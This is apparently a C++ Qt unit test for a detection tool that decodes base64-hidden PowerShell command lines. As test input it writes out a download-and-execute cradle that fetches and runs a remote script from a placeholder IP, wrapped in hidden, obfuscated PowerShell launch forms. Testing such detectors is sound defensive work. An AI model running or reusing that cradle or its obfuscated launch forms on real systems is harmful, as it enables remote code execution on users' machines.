// SPDX-License-Identifier: GPL-3.0-or-later
// What command lines hide in base64 becomes readable, and nothing else is taken for it.
#include "models/process/encodedcommand.h"

#include <QTest>

using namespace utkik;

namespace
{

QString encoded(const QString &text)
{
    const QByteArray bytes(reinterpret_cast<const char *>(text.utf16()),
                           text.size() * 2); // little-endian, as PowerShell's
    return QString::fromLatin1(bytes.toBase64());
}

} // namespace

class TestEncodedCommand final : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void decodes_data();
    void decodes();
    void findsWhatIsHiddenTwice();
    void boundsWhatIsSearched();
};

void TestEncodedCommand::decodes_data()
{
    QTest::addColumn<QString>("commandLine");
    QTest::addColumn<QStringList>("expected");
    const QString script = QStringLiteral("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/u.ps1')");
    const QString hidden = encoded(script);
    QTest::newRow("-enc") << QStringLiteral("powershell -w hidden -nop -enc ") + hidden << QStringList{script};
    QTest::newRow("shortest") << QStringLiteral("powershell -e ") + hidden << QStringList{script};
    QTest::newRow("alias") << QStringLiteral("pwsh -EC ") + hidden << QStringList{script};
    QTest::newRow("in full") << QStringLiteral("powershell.exe -EncodedCommand ") + hidden << QStringList{script};
    QTest::newRow("slash") << QStringLiteral("powershell /enc ") + hidden << QStringList{script};
    QTest::newRow("en dash") << QString(QStringLiteral("powershell ") + QChar(0x2013) + QStringLiteral("enc ")) + hidden
                             << QStringList{script};
    QTest::newRow("quoted") << QStringLiteral("powershell -enc \"") + hidden + u'"' << QStringList{script};
    QTest::newRow("carets") << QStringLiteral("cmd /c powershell -e^nc ") + QString(hidden).insert(10, u'^')
                            << QStringList{script};
    QTest::newRow("FromBase64String of UTF-8") << QStringLiteral("powershell -c \"[Convert]::FromBase64String('")
            + QString::fromLatin1(QByteArray("whoami /groups").toBase64())
            + QStringLiteral("')\"") << QStringList{QStringLiteral("whoami /groups")};
    QTest::newRow("not a parameter") << QStringLiteral("powershell -encoding ") + hidden << QStringList{};
    QTest::newRow("within a word") << QStringLiteral("tool x-enc ") + hidden << QStringList{};
    QTest::newRow("another program's -e") << QStringLiteral("grep -e administrators file.txt") << QStringList{};
    QTest::newRow("nothing readable") << QStringLiteral("powershell -enc AAAAAAAAAAAAAAAAAAAAAA==") << QStringList{};
    QTest::newRow("empty") << QString() << QStringList{};
}

void TestEncodedCommand::decodes()
{
    QFETCH(QString, commandLine);
    QTEST(decodedCommands(commandLine), "expected");
}

void TestEncodedCommand::findsWhatIsHiddenTwice()
{
    const QString inner = QStringLiteral("Get-ChildItem C:\\Users");
    const QString outer = QStringLiteral("powershell -enc ") + encoded(inner);
    QCOMPARE(decodedCommands(QStringLiteral("powershell -enc ") + encoded(outer)), (QStringList{outer, inner}));
}

void TestEncodedCommand::boundsWhatIsSearched()
{
    const QString padding(mostSearchedCharacters, u'A');
    QVERIFY(decodedCommands(QStringLiteral("powershell ") + padding + QStringLiteral(" -enc ")
                            + encoded(QStringLiteral("whoami")))
                .isEmpty());
}

QTEST_APPLESS_MAIN(TestEncodedCommand)
#include "tst_encodedcommand.moc"
